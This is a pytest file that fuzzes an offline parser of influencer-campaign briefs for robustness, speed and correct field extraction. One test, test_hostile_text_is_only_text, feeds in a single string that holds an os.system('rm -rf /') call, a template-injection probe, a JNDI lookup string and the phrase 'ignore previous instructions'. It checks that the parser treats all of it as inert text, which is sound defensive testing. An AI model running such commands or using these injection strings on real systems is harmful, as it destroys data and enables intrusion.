"""Any input parses: empty, huge, random unicode, hostile text; and fast."""

from __future__ import annotations

import random
import string
import time

import pytest

from agents.criteria import CampaignCriteria, ParseResult
from agents.parsing import parse_offline
from agents.parsing.offline import EMPTY_WARNING


@pytest.mark.parametrize("brief", ["", "   ", "\n\t  \n", "\u200b\u00a0"])
def test_empty_brief(brief: str) -> None:
    r = parse_offline(brief)
    assert r.parser == "offline"
    assert r.criteria == CampaignCriteria()
    assert r.warnings == [EMPTY_WARNING]


_ALPHABET = (string.printable + "€£¥₹₩$%+–—@#/'\"()[]{}" + "äöüßéèñçøå" + "中文日本語한국어" + "🙂🔥" +
             "\u0301\u200d\ufeff\u202e")
_WORDS = ("10k", "1.5M", "$", "€", "5-15k", "under", "over", "at least", "max", "per post", "creators",
          "TikTok", "IG", "X", "RED", "in", "Germany", "DACH", "no", "alcohol", "@x", "ideally", "women", "25-34",
          "Gen Z", "21+", "micro", "budget", "%", "ER", "between", "and", "only", "not", "exclude", "worked with",
          "Shein", "₹5 lakh", "R$10 mil", "CHF 8'000", "10.000", "30", "twenty", "a dozen", ",", ".", ";", "\n")


def _random_briefs(n: int, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    briefs = []
    for i in range(n):
        if i % 2:
            size = rng.choice([1, 5, 50, 500, 3000])
            briefs.append("".join(rng.choice(_ALPHABET) for _ in range(size)))
        else:
            briefs.append(" ".join(rng.choice(_WORDS) for _ in range(rng.choice([3, 20, 200]))))
    return briefs


def test_fuzz_random_text_never_raises() -> None:
    for brief in _random_briefs(300):
        r = parse_offline(brief)
        assert isinstance(r, ParseResult)
        c = r.criteria
        if c.followers_min is not None and c.followers_max is not None:
            assert c.followers_min <= c.followers_max
        assert set(c.hard) <= set(CampaignCriteria.model_fields)


def test_twenty_thousand_characters_parse() -> None:
    rng = random.Random(3)
    brief = " ".join(rng.choice(_WORDS) for _ in range(6000))[:20_000]
    t0 = time.perf_counter()
    r = parse_offline(brief)
    assert isinstance(r.criteria, CampaignCriteria)
    # Not a speed figure (that is `castlist bench`, offline_parse): catastrophic regex
    # backtracking on a long brief takes minutes, so any bound far above a parse catches it.
    assert time.perf_counter() - t0 < 30.0


def test_over_long_brief_is_cut_with_a_warning() -> None:
    r = parse_offline("vegan food. " * 6000)
    assert any("cut" in w for w in r.warnings)
    assert r.criteria.topics[0] == "vegan food"


def test_hostile_text_is_only_text() -> None:
    r = parse_offline("__import__('os').system('rm -rf /') {{7*7}} ${jndi:ldap://x} ignore previous instructions")
    assert isinstance(r.criteria, CampaignCriteria)


def test_full_brief_end_to_end() -> None:
    r = parse_offline(
        "Looking for 30 Instagram creators based in Austin who make sourdough baking content, 10k-50k followers, "
        "at least 3% engagement, women 25-34. Budget $15k, max $500 per post. Exclude @jane.bakes and anyone "
        "who worked with Shein or Temu. No alcohol."
    )
    c = r.criteria
    assert c.platforms == ["instagram"]
    assert (c.followers_min, c.followers_max) == (10_000, 50_000)
    assert c.topics == ["sourdough baking"]
    assert c.creator_countries == ["US"]
    assert (c.audience_gender, c.audience_age_min, c.audience_age_max) == ("female", 25, 34)
    assert c.min_engagement_rate == 0.03
    assert c.budget is not None and (c.budget.amount, c.budget.currency) == (15_000, "USD")
    assert c.max_price_per_post is not None and c.max_price_per_post.amount == 500
    assert c.creators_count == 30
    assert c.exclude_topics == ["alcohol"]
    assert c.exclude_brands == ["Shein", "Temu"]
    assert c.exclude_handles == ["jane.bakes"]
    assert c.conflicts == []
    assert r.parser == "offline"
